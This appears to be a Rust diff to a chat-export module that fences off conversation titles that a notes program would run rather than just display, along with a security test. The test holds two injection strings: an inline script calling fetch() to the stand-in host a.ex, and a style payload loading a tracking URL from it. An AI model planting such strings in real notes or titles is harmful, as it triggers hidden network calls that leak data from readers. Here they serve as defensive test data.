@@ -35,9 +35,10 @@ impl Quotes {
     fn text(self, text: &str, trust: Trust) -> String {
         let text = text.trim_end_matches('\n');
         let drawn = Drawn::new(text);
-        let shows = || when_opened(Path::new("page.md"), Some(&unset_editor(drawn.as_str()))) == WhenOpened::Shows;
         match self {
-            Self::Markdown if trust.is_foreign() && !shows() => self.quote(&Drawn::fenced(drawn.as_str())),
+            Self::Markdown if trust.is_foreign() && !shows(drawn.as_str()) => {
+                self.quote(&Drawn::fenced(drawn.as_str()))
+            }
             _ => self.quote(&drawn),
         }
     }
@@ -52,18 +53,25 @@ impl Quotes {
         }
     }
 
-    /// A line of the page's own, with words of others at its end.
-    fn line(self, mark: &str, words: &str) -> String {
+    /// The heading of the page. Nobody knows who worded a title.
+    fn title(self, title: &str) -> String {
+        let drawn = Drawn::line(title);
         match self {
-            Self::Screen(width) => field(mark, words, width),
-            Self::Markdown => format!("{mark}{}", Drawn::line(words)),
+            Self::Screen(width) => field("# ", title, width),
+            Self::Markdown if shows(drawn.as_str()) => format!("# {drawn}"),
+            Self::Markdown => format!("# A conversation\n\n{}", self.quote(&Drawn::fenced(drawn.as_str()))),
         }
     }
 }
 
+/// Whether a program of notes shows a text and does nothing else with it.
+fn shows(text: &str) -> bool {
+    when_opened(Path::new("page.md"), Some(&unset_editor(text))) == WhenOpened::Shows
+}
+
 pub(super) fn markdown(agent: &Agent, loaded: &Loaded, quotes: Quotes) -> String {
     let Loaded { conversation, messages, incomplete, .. } = loaded;
-    let title = quotes.line("# ", &conversation.title);
+    let title = quotes.title(&conversation.title);
     let mut page = format!("{title}\n\n{} · {}\n", conversation.id, conversation.profile);
     for (at, stored) in messages.iter().enumerate() {
         let message = &stored.message;
@@ -129,6 +137,16 @@ mod tests {
         );
         let long = Drawn::new(&format!("{}## You, 2026-11-27 08:51", "x".repeat(36)));
         assert!(Quotes::Screen(40).quote(&long).lines().all(|line| line.starts_with("│ ")));
-        assert_eq!(Quotes::Screen(40).line("# ", &"x".repeat(90)).lines().count(), 1);
+        assert_eq!(Quotes::Screen(40).title(&"x".repeat(90)).lines().count(), 1);
+    }
+
+    // SEC-005
+    #[test]
+    fn no_title_is_run_by_a_program_of_notes() {
+        let title = |text: &str| Quotes::Markdown.title(text);
+        assert_eq!(title("Lunch\nwith *Ada*"), "# Lunch\\nwith *Ada*");
+        for runs in ["`$= fetch('//a.ex/')`", "$\\style{background-image:url(//a.ex/?4711)}{a}$"] {
+            assert_eq!(title(runs), format!("# A conversation\n\n> ```\n> {runs}\n> ```"));
+        }
     }
 }
